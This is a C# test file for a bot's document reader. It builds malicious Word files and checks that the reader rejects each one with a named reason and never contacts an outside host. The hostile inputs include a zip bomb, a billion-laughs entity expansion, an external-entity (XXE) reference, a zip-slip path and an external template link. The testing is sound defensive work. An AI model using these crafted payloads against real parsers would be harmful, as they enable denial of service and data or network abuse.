using System.Net;
using System.Net.Sockets;
using System.Text;
using Bot.Answering;
using Bot.Corpus;
using Bot.Tests.Support;
using static Bot.Tests.Support.WordFile;

namespace Bot.Tests.Corpus;

/// <summary>Row E1 of the project's reliability table: documents that were made to hurt whoever reads them.</summary>
public sealed class HostileWordTests : IDisposable
{
    private const string Good = "King Hassan II visited Moscow in 1966.";

    private static readonly string[] Harmless = ["02-nested.docx", "13-template.docx", "14-attribute.docx", "good.docx"];

    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public void EachIsNamedOrHarmlessAndTheGoodOneBesideThemIsRead()
    {
        using var stranger = new TcpListener(IPAddress.Loopback, 0);
        stranger.Start();
        foreach (var (name, content) in Files(stranger.LocalEndpoint)) _folder.WriteBytes(name, content);

        var leftOut = new List<LeftOut>();
        using var reader = new DocumentReader();
        var documents = CorpusSource.At(_folder.Path, reader).ReadAll(leftOut.Add).ToList();

        Assert.Equal(Harmless, documents.Select(document => document.Id));
        Assert.All(documents, document => Assert.Equal(Good, document.Text));
        Assert.Equal(
            [
                new("01-bomb.docx", "word/document.xml in it unpacks to more than 200 times its size: save it again, or as text"),
                new("03-entries.docx", "its ZIP container holds more than 2,000 entries: save it again, or as text"),
                new("04-lying.docx", "word/document.xml in it is not what its ZIP container says: it may be damaged; save it again"),
                new("05-overlap.docx", "word/styles.xml in its ZIP container overlaps another entry: save it again"),
                new("06-laughs.docx", "word/document.xml in it is not XML that is read (it is damaged, or declares entities): save it again, or as text"),
                new("07-entity.docx", "word/document.xml in it is not XML that is read (it is damaged, or declares entities): save it again, or as text"),
                new("08-deep.docx", "word/document.xml in it is nested more than 256 deep: save it again, or as text"),
                new("09-slip.docx", "its ZIP container holds ../../evil.xml, a name that leads out of it: save it again"),
                new("10-encrypted.docx", "it is encrypted: save it without a password"),
                new("11-ole.docx", "it is an old or encrypted Word file: save it as .docx without a password"),
                new("12-truncated.docx", "its ZIP container is damaged or cut off: save it again"),
                new("15-empty.docx", "word/document.xml in it is not XML that is read (it is damaged, or declares entities): save it again, or as text"),
            ],
            leftOut);
        Assert.False(stranger.Pending(), "Somebody asked for what the file points to.");
    }

    [Fact]
    public async Task TheServerIsUpAllTheWhileAndNamesWhatItCannotRead()
    {
        using var stranger = new TcpListener(IPAddress.Loopback, 0);
        stranger.Start();
        var files = Files(stranger.LocalEndpoint);

        var (read, leftOut) = await TakenIn.ByServerAsync(files);

        Assert.Equal([TakenIn.Before, .. Harmless.Select(name => $"files/{name}")], read);
        Assert.Equal(files.Keys.Except(Harmless).Order(StringComparer.Ordinal), leftOut.Select(left => left.File["files/".Length..]));
        Assert.False(stranger.Pending(), "Somebody asked for what the file points to.");
    }

    private static Dictionary<string, byte[]> Files(EndPoint stranger) => new()
    {
        ["good.docx"] = Saying(Good),
        ["01-bomb.docx"] = With(Main, new string(' ', 100 << 20)),
        ["02-nested.docx"] = ZipOf([.. Bytes(Parts(Paragraph(Good))), ("word/embeddings/inner.zip", ZipOf([("zeros", new byte[50 << 20])]))]),
        ["03-entries.docx"] = ZipOf([.. Bytes(Parts(Paragraph(Good))), .. Enumerable.Range(0, 70_000).Select(i => ($"x/{i}", Array.Empty<byte>()))]),
        ["04-lying.docx"] = Patch(With(Main, new string(' ', 50 << 20)), Main, 24, 1000),
        ["05-overlap.docx"] = Patch(Saying(Good), "word/styles.xml", 42, Field(Saying(Good), Main, 42)),
        ["06-laughs.docx"] = With(Main, Laughs()),
        ["07-entity.docx"] = With(Main, $"""<!DOCTYPE x [<!ENTITY e SYSTEM "http://{stranger}/">]><x>&e;</x>"""),
        ["08-deep.docx"] = With(Main, string.Concat(Enumerable.Repeat("<a>", 100_000)) + string.Concat(Enumerable.Repeat("</a>", 100_000))),
        ["09-slip.docx"] = With("../../evil.xml", "<x/>"),
        ["10-encrypted.docx"] = Patch(Saying(Good), Main, 8, Field(Saying(Good), Main, 8) | 1),
        ["11-ole.docx"] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]],
        ["12-truncated.docx"] = Saying(Good)[..^200],
        ["13-template.docx"] = With("word/_rels/document.xml.rels", RelationsOf(
            $"""<Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://{stranger}/x.dotm" TargetMode="External"/>""")),
        ["14-attribute.docx"] = With(Main, Parts(Paragraph(Good))[Main].Replace("<w:body>", $"""<w:body w:rsid="{Noise(4 << 20)}">""")),
        ["15-empty.docx"] = With(Main, ""),
    };

    private static byte[] With(string name, string content) => Zip(new Dictionary<string, string>(Parts(Paragraph(Good))) { [name] = content });

    private static IEnumerable<(string, byte[])> Bytes(Dictionary<string, string> parts) => parts.Select(part => (part.Key, Encoding.UTF8.GetBytes(part.Value)));

    private static string Laughs() =>
        "<!DOCTYPE x [<!ENTITY a0 \"ha\">" + string.Concat(Enumerable.Range(1, 20).Select(i => $"<!ENTITY a{i} \"{string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))}\">")) + "]><x>&a20;</x>";

    // Hardly packs, so that it gets past the ratio.
    private static string Noise(int length)
    {
        var random = new Random(1);
        return string.Create(length, random, (text, from) =>
        {
            for (var i = 0; i < text.Length; i++) text[i] = (char)('a' + from.Next(26));
        });
    }
}
